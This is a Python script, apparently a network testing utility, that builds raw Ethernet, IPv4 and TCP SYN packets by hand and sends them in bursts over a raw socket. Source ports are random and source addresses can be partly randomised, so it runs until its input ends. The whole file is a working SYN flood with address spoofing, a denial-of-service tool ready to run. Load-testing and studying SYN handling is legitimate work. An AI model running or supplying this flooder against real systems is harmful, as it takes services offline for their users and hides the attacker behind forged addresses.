# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Sends SYNs from random ports as fast as it can until its input ends: flood.py DEVICE FROM-MAC TO-MAC FROM TO PORT...

FROM is an address, or the first two octets of one, of which the others are random then. Prints how many it sent.
"""
import random
import select
import socket
import struct
import sys

BURST = 256


def total(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def folded(value):
    while value > 0xFFFF:
        value = (value & 0xFFFF) + (value >> 16)
    return ~value & 0xFFFF


def syn(source, target, port):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, source, target)
    sums = folded(total(head))
    head = head[:10] + struct.pack("!H", sums) + head[12:]
    tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), port, random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0)
    sums = folded(total(source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))) + total(tcp))
    return head + tcp[:16] + struct.pack("!H", sums) + tcp[18:]


def address(text):
    octets = bytes(int(octet) for octet in text.split("."))
    return octets + random.randbytes(4 - len(octets))


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


device, own_mac, next_mac, own, target, *ports = sys.argv[1:]
ethernet = mac(next_mac) + mac(own_mac) + b"\x08\x00"
sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sender.bind((device, 0))
sent = 0
while not select.select([sys.stdin], [], [], 0)[0]:
    for _ in range(BURST):
        sender.send(ethernet + syn(address(own), address(target), int(random.choice(ports))))
    sent += BURST
print(sent)
